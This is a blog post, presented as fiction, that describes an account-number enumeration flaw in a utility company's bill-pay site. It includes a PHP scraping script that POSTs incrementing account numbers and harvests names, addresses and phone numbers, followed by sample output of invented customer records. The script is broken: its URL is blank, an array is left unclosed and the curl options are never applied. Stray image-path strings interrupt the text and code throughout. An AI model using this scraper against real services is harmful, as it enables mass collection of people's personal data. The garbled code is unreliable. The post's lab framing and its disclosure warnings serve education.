pwning the utility company

Jun 21, 2016

Edit: This is a fictitious story, there is no utility company, our villain in this story “the utility company” is an example. However attacks like this occur every day, so I wanted to shine light on how they happen in a proof of concept that was displayed properly to my audience in a safe environment and with an entertaining back-story. Take the article with a grain of salt and always be responsible in disclosure. I hope that you enjoy the read.

One day a user was checking their mail and had realized that they failed to take care of a utility bill. Frantically, they took steps to pay the bill online via the self-service web application. The application was fairly simple and straight forward. In order to “authenticate”, if you could call it that, was toenter the account number and hit a button to continue. Upon hitting the button needed to continue thepayment process the user was displayed a page with several pieces of personally identifiable information (the same data in a phone book):

  • Address
  • First & Last name
  • Phone number

In such an angry state of mind the user tried to login as fast as they could, mashing the keys that consisted of their assigned account number so that they can get the sting of another bill out of the way. Hitting the enter key displayed the usual page that they were used to seeing, asking them to confirm account information, except something this time was very different. The name was not correct, it was someone else’s name that lives in the same state as the user, and obviously uses the same utility company. Confirming the account number was correct the user noticed that the last digit was the issue, it was exactly one digit above their account number. Typically this indicates that the account numbers are based on incremental values (more than likely auto_increment). Are you thinking what I am? This could be scraped. So I setup a test lab with my own code and fake data to test a proof of concept.

Doing something like this on a live website without the explicit approval of the owners of said website is not recommended, and highly unethical.


if you don’t believe me I recommend you lookup the case on Weev and AT&T

So I re-created this situation using Virtual Machines. The files for this lab can be found on GitHub.


Upon hitting the ‘pay my bill’ button we are shown a page to confirm our account information, then proceed with adding payment methods at the next screen.


On this page we are confronted and instructed to confirm our personal information is correct, thenproceed to electing a payment method. This is absolutely terrifying! A competitor could easily uncover this information and use it to poach customers of this company. Or someone could sell the information on the black market, all roads lead to nothing good.

To test my theory I wrote this script that I will use to test with the fake web application that I made.

require "simple_html_dom.php";
$start_acct_num = $argv[1] or die("supply account number to start searching with\n");
$range = $argv[2] or die("specify range!\n");
for($acct_num = $start_acct_num; $acct_num <= $start_acct_num + $range; $acct_num++){
    $postdata = array('account_number' => $acct_num);
    $curl = curl_init();$curlopts = array(
        CURLOPT_URL => "",
        CURLOPT_USERAGENT => "Mozilla/5.0 (compatible; Googlebot/2.1; +",
        CURLOPT_POSTFIELDS => $postdata,
    $postdata = http_build_query($postdata);
    $req = curl_exec($curl);
    $info = curl_getinfo($curl);
    $scrape = str_get_html($req)->find('div',0)->plaintext;
    print $scrape . "\n\n";

We simply just need to specify an account number to start with, then the script will ask for a range. This alters the range of account numbers that we would like to test.

$ ./utilitypwn.php 2000504003 6
Account Number: 2000504003
Name: John DoeService Address: 1337 Secure rd., Austin TX, 78701
Phone: 202-555-0123
Account Number: 2700904004
Name: Michael Smith
Service Address: 302 Courage rd., AustinTX, 78702
Phone: 202-555-0128
Account Number: 2700904005
Name: Alexandria Roberts
Service Address: 506 Congress rd., Austin TX, 78709
Phone: 202-555-0197
Account Number: 2700904006
Name: Joshua Mericson
Service Address: 666 Slayer rd., Austin TX, 78702
Phone: 202-555-0205
Account Number: 2700904007
Name: Juan Swaggington
Service Address: 420 High Timbers rd., Austin TX, 78702
Phone: 202-555-3055
Account Number: 2700904008
Name: Jackson Chan
Service Address: 5825 Honeypot blvd., Austin TX, 78704
Phone: 202-555-2047
Account Number: 2700904009
Name: Ryan Ballerson
Service Address: 512 Elevated Rock rd., Austin TX, 78702
Phone: 202-555-3952

With just a few lines of code someone could literally harvest the entire customer database using simple arithmetic. Perhaps it’s a good idea to throw a password or something somewhere in this process? Personal data is at risk due to such carelessness  Of course for this to be successful the attacker would need to be able to have an account number handy to start with, or enumerate account numbers. Enumeration in this case is easy since they are incremented values.

DISCLAIMER: The personal information in my test lab are all made up, as well as the utility company. Any relation to anyone or entity using any part of of the data above is purely coincidental and in no way related to this research. This was not tested on a live web site, and is all a proof of concept in the nameof research. nor do I condone or recommend doing this on live websites withoutexplicit approval. No law wasbroken in the making of this blog post.